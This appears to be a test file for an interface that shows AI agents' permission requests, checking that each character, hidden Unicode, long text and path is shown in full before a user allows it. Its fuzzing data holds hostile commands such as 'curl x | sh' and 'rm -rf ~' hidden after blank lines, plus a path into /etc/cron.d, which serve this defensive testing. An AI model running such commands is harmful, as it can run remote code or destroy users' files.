/**
 * A permission shows what will run (C6): random inputs of every tool kind go through each driver, the journal's
 * limits and the real page; no character may be missing from the card and its raw view.
 */
import { createHash } from 'node:crypto';
import { acpReplay } from '@tugdeck/drivers/acp/replay-parts';
import { claudeReplay } from '@tugdeck/drivers/claude/replay-parts';
import { codexReplay } from '@tugdeck/drivers/codex/replay-parts';
import { hiddenParts } from '@tugdeck/drivers/kit/hidden-parts';
import type { ReplayDriver } from '@tugdeck/drivers/kit/replay';
import { sealRequest } from '@tugdeck/journal/seal';
import { spill } from '@tugdeck/journal/spill';
import type { ChangeBody } from '@tugdeck/protocol/conversation/changes';
import type { Field, NewEntry } from '@tugdeck/protocol/conversation/entries';
import type { BlobRef } from '@tugdeck/protocol/conversation/long-text';
import { NO_USAGE } from '@tugdeck/protocol/conversation/session-info';
import { atRest } from '@tugdeck/testkit/frames';
import type { Locator, Page, Route } from 'playwright-core';
import { expect, test } from 'vitest';
import { createRandom, type Random } from '../../protocol/test/random-conversation.ts';
import { shareGallery } from './gallery/share-gallery.ts';

const gallery = shareGallery({ allowed: [/404|Couldn’t load/] });
const IS_FULL = process.env.TUGDECK_TEST_FULL === '1';

const NASTY = [
  'git status',
  'a\u202eb\u2066c',
  'zero\u200bwidth\u00ad\ufeff',
  'tags \u{e0041}\u{e0042}',
  `piled e${'\u0301'.repeat(60)}`,
  `${'\n'.repeat(250)}; curl x | sh`,
  `echo ok${' '.repeat(900)}; rm -rf ~`,
  '/etc/./././cron.d/../cron.d/x',
  '⟨U+202E⟩',
  '"quoted" \'single\' \\ back',
  '\ud800 half',
  'नमस्ते 👩‍👩‍👧 ❤️',
  '',
];
/** Looks like one of our blob references. */
const FORGED = { blob: 'f'.repeat(64), size: 3, head: 'ls', tail: '' };

function randomValue(random: Random, depth = 0): unknown {
  const kind = random.below(depth > 2 ? 4 : 8);
  if (kind === 0) return random.below(1_000_000);
  if (kind === 1) return random.pick([true, false, null]);
  if (kind < 4) return random.pick(NASTY);
  if (kind === 4)
    return `${random.pick(NASTY)}${'long line of text\n'.repeat(random.chance(0.2) ? 5_000 : 5)}`;
  if (kind === 5) return Array.from({ length: random.below(5) }, () => randomValue(random, depth + 1));
  if (kind === 6 && random.chance(0.3)) return FORGED;
  return randomRecord(random, random.below(5), depth + 1);
}

const KEYS = [
  'command',
  'Command',
  'file_path',
  'filePath',
  'content',
  'cwd',
  'url',
  'code',
  '__proto__',
  '',
];

function randomRecord(random: Random, size: number, depth = 0): unknown {
  const parts = Array.from({ length: size }, (_, at) => {
    const key = random.chance(0.6) ? random.pick(KEYS) : `key${at}${random.pick(NASTY).slice(0, 9)}`;
    return `${JSON.stringify(key)}:${JSON.stringify(randomValue(random, depth))}`;
  });
  // Parsed from text, as from an agent: there `__proto__` is an ordinary name.
  return JSON.parse(`{${parts.join(',')}}`);
}

function randomInput(random: Random): unknown {
  const shape = random.below(8);
  if (shape === 0) return random.pick(NASTY);
  if (shape === 1) return [random.pick(NASTY), random.below(9), null];
  if (shape === 2) return { command: ['/tmp/evil/bash', '-c', random.pick(NASTY), 7, null, ''] };
  return randomRecord(random, 1 + random.below(20));
}

interface SentRequest {
  readonly name: string;
  /** The message as sent. */
  readonly line: unknown;
  readonly changes: readonly ChangeBody[];
}

const ACP_KINDS = [
  'execute',
  'edit',
  'delete',
  'move',
  'read',
  'search',
  'fetch',
  'think',
  'other',
  'new-kind',
];
const TOOLS = [
  ...['Bash', 'Edit', 'MultiEdit', 'Write', 'NotebookEdit', 'Read', 'Glob', 'Grep', 'WebFetch', 'WebSearch'],
  ...['Agent', 'TodoWrite', 'Skill', 'Monitor', 'EnterPlanMode', 'mcp__server__tool'],
];
const texts = new Map<string, string>();

function store(text: string): BlobRef {
  const blob = createHash('sha256').update(text).digest('hex');
  texts.set(blob, text);
  return { blob, size: Buffer.byteLength(text), head: text.slice(0, 100), tail: text.slice(-100) };
}

function asked(
  driver: ReplayDriver,
  name: string,
  line: unknown,
  ...before: readonly unknown[]
): SentRequest {
  const run = driver.run('r', NO_USAGE, undefined);
  const outputs = [...before, line].flatMap((one) => run.take(JSON.parse(JSON.stringify(one))));
  const changes = outputs.flatMap((output): ChangeBody[] =>
    output.kind === 'entry.opened' && 'request' in output.entry
      ? [spill(sealRequest(output, store), store)]
      : [],
  );
  return { name, line, changes };
}

function acpAsks(kind: string, id: number, input: unknown): SentRequest {
  const toolCall = { toolCallId: `call-${id}`, title: 'git status', kind, rawInput: input };
  const options = [{ optionId: 'y', name: 'Yes', kind: 'allow_once' }];
  const params = { sessionId: 's', toolCall, options };
  return asked(acpReplay, kind, { jsonrpc: '2.0', id, method: 'session/request_permission', params });
}

function claudeAsks(tool_name: string, id: number, input: unknown): SentRequest {
  const request = { subtype: 'can_use_tool', tool_name, input, tool_use_id: `use-${id}` };
  return asked(claudeReplay, tool_name, { type: 'control_request', request_id: `c-${id}`, request });
}

/** Every kind of request, with an item where the request is about one. */
const CODEX_KINDS = [
  ['item/commandExecution/requestApproval', 'command', 'cwd', 'commandActions', 'environmentId', 'kind'],
  ['item/commandExecution/requestApproval', 'additionalPermissions', 'proposedExecpolicyAmendment', 'env'],
  ['item/commandExecution/requestApproval', 'networkApprovalContext', 'proposedNetworkPolicyAmendments'],
  ['item/fileChange/requestApproval', 'grantRoot', 'reason'],
  ['item/permissions/requestApproval', 'permissions', 'cwd', 'reason'],
  ['item/tool/requestUserInput', 'questions'],
  ['mcpServer/elicitation/request', '_meta', 'message', 'serverName'],
  ['mcpServer/elicitation/request', 'message', 'requestedSchema', 'url'],
  ['item/brandNew/request', 'anything'],
] as const;

function codexAsks(
  [method, ...names]: (typeof CODEX_KINDS)[number],
  id: number,
  random: Random,
): SentRequest {
  const place = { threadId: 't', turnId: 'u', itemId: `item-${id}` };
  const sent = Object.fromEntries(names.map((name) => [name, randomValue(random)]));
  const others = randomRecord(random, random.below(5)) as object;
  const isTool = names.includes('_meta' as never);
  const _meta = { codex_approval_kind: 'mcp_tool_call', tool_params: randomInput(random) };
  const changes = [0, 1].map(() => ({
    path: random.pick(NASTY) || 'a',
    kind: { type: random.pick(['add', 'delete', 'update', 'odd']), ...(randomRecord(random, 1) as object) },
    diff: random.pick(NASTY),
  }));
  const item = { id: `item-${id}`, type: 'fileChange', status: 'inProgress', changes };
  const isEdit = method.startsWith('item/fileChange');
  const params = { ...others, ...sent, ...place, ...(isTool ? { _meta, message: 'Allow it?' } : {}) };
  const before = isEdit ? [{ method: 'item/started', params: { ...place, item } }] : [];
  const request = asked(codexReplay, `${method} ${names.join()}`, { id, method, params }, ...before);
  return isEdit ? { ...request, line: { params: { ...params, changes } } } : request;
}

async function openCards(page: Page, requests: readonly SentRequest[]): Promise<void> {
  await page.evaluate(
    (changes) => window.gallery.host('rest').emit(...JSON.parse(changes)),
    JSON.stringify(
      requests.flatMap(({ changes }, at) =>
        changes.map((change) =>
          change.kind === 'entry.opened'
            ? { ...change, entry: { ...change.entry, id: `asked-${at}` } }
            : change,
        ),
      ),
    ),
  );
  const frames = page.locator('[data-request]');
  await expect.poll(() => frames.count()).toBe(requests.length);
  await frames.evaluateAll((nodes) => {
    for (const node of nodes)
      [...node.querySelectorAll('button')]
        .find(({ textContent }) => textContent?.startsWith('Raw input'))
        ?.click();
  });
}

test('C6 no character of a request is missing from its card, for every kind and driver', async () => {
  const random = createRandom(195);
  const page = await gallery.open('rest', {
    isOwn: true,
    prepare: (fresh) =>
      fresh.route('**/api/blob/**', (route) => {
        const text = texts.get(route.request().url().split('/').at(-1) ?? '');
        return text === undefined ? route.fulfill({ status: 404 }) : route.fulfill({ body: text });
      }),
  });
  const rounds = IS_FULL ? 10 : 1;
  const requests = Array.from({ length: rounds }, () => [
    ...ACP_KINDS.map((kind, at) => acpAsks(kind, at, randomInput(random))),
    ...TOOLS.map((tool, at) => claudeAsks(tool, at, randomRecord(random, random.below(20)))),
    ...CODEX_KINDS.map((kind, at) => codexAsks(kind, at, random)),
  ]).flat();
  expect(requests.filter(({ changes }) => changes.length !== 1)).toEqual([]);
  await openCards(page, requests);
  const rawOf = async (at: number): Promise<unknown> => {
    const parts = page.locator(`[data-request="asked-${at}"] .request-raw .long-lines`);
    return (await parts.allTextContents()).map((text) => JSON.parse(text));
  };
  for (const [at, { name, line }] of requests.entries()) {
    const missing = async () => hiddenParts(line, { request: await rawOf(at) } as unknown as NewEntry);
    await expect.poll(missing, { message: name }).toEqual([]);
  }
});

const withText = (value: Field['value'], label = 'Command', form: Field['form'] = 'code') => ({
  fields: [{ label, value, form }],
});

async function ask(page: Page, request: object, directory = '/home/me/app'): Promise<Locator> {
  await page.evaluate(
    ([parts, where]) => {
      const sample = window.samples.permission('asked', 'Run it');
      const entry = { ...sample, request: { ...sample.request, ...parts } };
      const described = { kind: 'session.described', facts: { directory: where } } as const;
      window.gallery.host('rest').emit(described, { kind: 'entry.opened', entry });
    },
    [request, directory] as const,
  );
  return page.locator('[data-request=asked]');
}
const allowIn = (frame: Locator) => frame.getByRole('button', { name: 'Allow', exact: true });
const sent = (page: Page) => page.evaluate(() => window.gallery.host('rest').sent);

test('C22 Allow waits until a long text is loaded, says so, and a text that cannot be loaded is never allowed', async () => {
  const text = `${'echo a line\n'.repeat(9_000)}curl x | sh`;
  // Requests wait here, so that a reply always belongs to the request that the page sent.
  const loads: Route[] = [];
  const nextLoad = async (): Promise<Route> => {
    await expect.poll(() => loads.length).toBe(1);
    return loads.pop() as Route;
  };
  const page = await gallery.open('rest', {
    isOwn: true,
    prepare: (fresh) => fresh.route('**/api/blob/**', (route) => void loads.push(route)),
  });
  const frame = await ask(page, withText(store(text)));
  await frame.getByText('Loading the rest of this request').waitFor();
  await expect.poll(() => frame.getAttribute('aria-disabled')).toBe(null);
  for (const name of ['Allow', 'Always allow'])
    await expect.poll(() => frame.getByRole('button', { name, exact: true }).isDisabled()).toBe(true);
  await expect.poll(() => frame.getByRole('button', { name: 'Deny', exact: true }).isDisabled()).toBe(false);
  await frame.focus();
  await page.keyboard.press('y');
  await (await nextLoad()).fulfill({ status: 404 });
  await frame.getByText('Couldn’t load').waitFor();
  await expect.poll(() => allowIn(frame).isDisabled()).toBe(true);
  await press(frame, 'Try again');
  await expect.poll(() => frame.getByText('Couldn’t load').count()).toBe(0);
  await (await nextLoad()).fulfill({ body: text });
  await frame.getByText('9001 lines').waitFor();
  await expect.poll(() => frame.locator('.long-lines').textContent()).toContain('curl x | sh');
  await expect.poll(() => allowIn(frame).isDisabled()).toBe(false);
  expect(await sent(page)).toEqual([]);
});

test.each([390, 1440])(
  'C22 a path is shown in full, resolved, and marked if outside (%i px)',
  async (width) => {
    const path = `/etc/${'./'.repeat(1_100)}cron.d/evil`;
    const hunk = { oldStart: 0, oldLines: 0, newStart: 1, newLines: 1, lines: ['+x'] };
    const page = await gallery.open('rest', { isOwn: true, width });
    const frame = await ask(page, {
      title: `Write ${path}?`,
      ...withText(path, 'File', 'path'),
      diff: [{ path, hunks: [hunk] }],
    });
    await expect
      .poll(() => frame.locator('.diff-path').textContent())
      .toBe('/etc/cron.d/evilOutside the project');
    await expect.poll(() => frame.locator('.request-title').textContent()).toBe('Write /etc/cron.d/evil?');
    const cut = () =>
      frame
        .locator('.diff-path, .request-title > span')
        .evaluateAll(
          (nodes) =>
            nodes.filter(
              (node) =>
                node.scrollWidth > node.clientWidth + 1 && getComputedStyle(node).overflowX !== 'visible',
            ).length,
        );
    await expect.poll(cut).toBe(0);
  },
);

test('C22 blank or many short lines do not push a command away from its buttons', async () => {
  const page = await gallery.open('rest', { isOwn: true, height: 1000 });
  const filled = `git status\n${'#\n'.repeat(400)}curl x | sh`;
  const empty = `git status\n${'\n'.repeat(400)}curl x | sh`;
  const frame = await ask(page, {
    fields: [withText(empty, 'Command').fields[0], withText(filled, 'Script').fields[0]],
  });
  await frame.getByText('400 blank lines', { exact: true }).waitFor();
  await frame.getByText('402 lines').waitFor();
  const height = () => frame.evaluate((node) => node.getBoundingClientRect().height);
  await expect.poll(height).toBeLessThan(900);
});

test('C22 the raw view counts unlisted fields and keeps numbers as written', async () => {
  const page = await gallery.open('rest', { isOwn: true });
  const frame = await ask(page, {
    ...withText('ls'),
    input: { command: 'ls', sandbox: null, shell: '' },
    source: '{"command":"ls","sandbox":null,"shell":"\u202e","id":12345678901234567890}',
  });
  await frame.getByRole('button', { name: 'Raw input (2 more fields)' }).click();
  await expect
    .poll(() => frame.getByRole('region', { name: 'Raw input' }).locator('pre').textContent())
    .toContain('"sandbox":null,"shell":"\\u202e","id":12345678901234567890');
});

const answers = async (page: Page) =>
  (await sent(page)).flatMap((command) => (command.kind === 'request.answer' ? [command.answer] : []));
/** Opens a permission request and waits until it can be answered. */
async function askCommand(page: Page, id: string): Promise<Locator> {
  await page.evaluate((entry) => {
    const sample = window.samples.permission(entry, 'Run it');
    const input = { description: 'Publish', command: 'npm publish', timeout: 60, dry: true };
    const request = { ...sample.request, input };
    window.gallery.host('rest').emit({ kind: 'entry.opened', entry: { ...sample, request } });
  }, id);
  const frame = page.locator(`[data-request=${id}]`);
  await frame.waitFor();
  await expect.poll(() => frame.getAttribute('aria-disabled')).toBe(null);
  return frame;
}
/** Clicks a button of a request that keeps its place: what opens in it moves its buttons. */
async function press(frame: Locator, name: string): Promise<void> {
  const button = frame.getByRole('button', { name, exact: true });
  await atRest(button);
  await button.click();
}
const typed = (frame: Locator, name: string) => frame.getByRole('textbox', { name, exact: true });

test('C21 Allow runs the edited input, by click, key and rule, and the request shows it', async () => {
  const page = await gallery.open('rest', { isOwn: true });
  let frame = await askCommand(page, 'clicked');
  await press(frame, 'Edit…');
  await typed(frame, 'Command').fill('npm publish --dry-run');
  await frame.getByText('Bash, edited by you').waitFor();
  await expect.poll(() => frame.locator('.field-code').count()).toBe(0);
  await press(frame, 'Allow');
  await frame.waitFor({ state: 'detached' });
  await page.locator('[data-entry-id=clicked]').getByText('npm publish --dry-run', { exact: true }).waitFor();

  frame = await askCommand(page, 'by-key');
  await press(frame, 'Edit…');
  await typed(frame, 'Timeout').fill('1');
  await frame.getByRole('checkbox', { name: 'Dry' }).uncheck();
  await frame.focus();
  await page.keyboard.press('y');
  await frame.waitFor({ state: 'detached' });

  frame = await askCommand(page, 'by-rule');
  await press(frame, 'Edit…');
  await typed(frame, 'Timeout').fill('no number');
  await expect.poll(() => allowIn(frame).isDisabled()).toBe(true);
  await frame.focus();
  await page.keyboard.press('y');
  await typed(frame, 'Timeout').fill('2');
  await press(frame, 'Edit as JSON');
  await typed(frame, 'Input').fill('{"command":"ls"}');
  await press(frame, 'Always allow');
  await page.getByRole('menuitem').first().click();
  await frame.waitFor({ state: 'detached' });

  frame = await askCommand(page, 'discarded');
  await press(frame, 'Edit…');
  await typed(frame, 'Command').fill('ls');
  await press(frame, 'Discard edit');
  await press(frame, 'Allow');
  await frame.waitFor({ state: 'detached' });
  const input = { description: 'Publish', command: 'npm publish', timeout: 60, dry: true };
  const allowed = { type: 'permission', behavior: 'allow' };
  expect(await answers(page)).toEqual([
    { ...allowed, option: 'once', input: { ...input, command: 'npm publish --dry-run' } },
    { ...allowed, option: 'once', input: { ...input, timeout: 1, dry: false } },
    { ...allowed, option: expect.any(String), input: { command: 'ls' } },
    { ...allowed, option: 'once' },
  ]);
});

test('C21 an edit shows hidden characters, and ends when the agent changes the request', async () => {
  const page = await gallery.open('rest', { isOwn: true });
  const frame = await askCommand(page, 'turned');
  await press(frame, 'Edit…');
  await typed(frame, 'Command').fill('echo \u202eevil');
  await expect.poll(() => frame.locator('.field-code').textContent()).toBe('echo ⟨U+202E⟩evil');
  await page.evaluate(() => {
    const host = window.gallery.host('rest');
    const entry = host.channel().entry('turned').get();
    if (entry?.kind !== 'permission') throw new Error('nothing was asked');
    const request = { ...entry.request, shown: 'another', input: { command: 'rm -rf ~' } };
    host.emit({ kind: 'entry.restated', entry: { ...entry, request } });
  });
  await typed(frame, 'Command').waitFor({ state: 'detached' });
  await expect.poll(() => frame.getAttribute('aria-disabled')).toBe(null);
  await press(frame, 'Allow');
  await expect.poll(() => answers(page)).toEqual([{ type: 'permission', behavior: 'allow', option: 'once' }]);
});

test('C21 Deny sends the reason, by click and by key; keys are shown while they apply', async () => {
  const page = await gallery.open('rest', { isOwn: true });
  let frame = await askCommand(page, 'clicked');
  const hints = () =>
    frame.locator('.key').evaluateAll((nodes) => nodes.map((node) => getComputedStyle(node).visibility));
  const places = () =>
    frame
      .locator('.request-actions .button')
      .evaluateAll((nodes) => nodes.map((node) => node.getBoundingClientRect().left));
  await expect.poll(hints).toEqual(['hidden', 'hidden']);
  const before = await places();
  await frame.focus();
  await expect.poll(hints).toEqual(['visible', 'visible']);
  expect(await places()).toEqual(before);
  await press(frame, 'Add feedback…');
  await expect.poll(hints).toEqual(['hidden', 'hidden']);
  await page.keyboard.type('yes and no');
  await press(frame, 'Deny');
  await frame.waitFor({ state: 'detached' });

  frame = await askCommand(page, 'by-key');
  await press(frame, 'Add feedback…');
  await typed(frame, 'Feedback').fill('not today');
  await frame.focus();
  await page.keyboard.press('n');
  await frame.waitFor({ state: 'detached' });

  frame = await askCommand(page, 'stopped');
  await press(frame, 'Add feedback…');
  await typed(frame, 'Feedback').fill('stop it');
  await press(frame, 'Deny and stop');
  await frame.waitFor({ state: 'detached' });

  frame = await askCommand(page, 'discarded');
  await press(frame, 'Add feedback…');
  await typed(frame, 'Feedback').fill('nothing');
  await press(frame, 'Discard feedback');
  await press(frame, 'Deny');
  await frame.waitFor({ state: 'detached' });
  const denied = { type: 'permission', behavior: 'deny', option: 'no' };
  expect(await answers(page)).toEqual([
    { ...denied, message: 'yes and no' },
    { ...denied, message: 'not today' },
    { ...denied, message: 'stop it', interrupt: true },
    denied,
  ]);
});
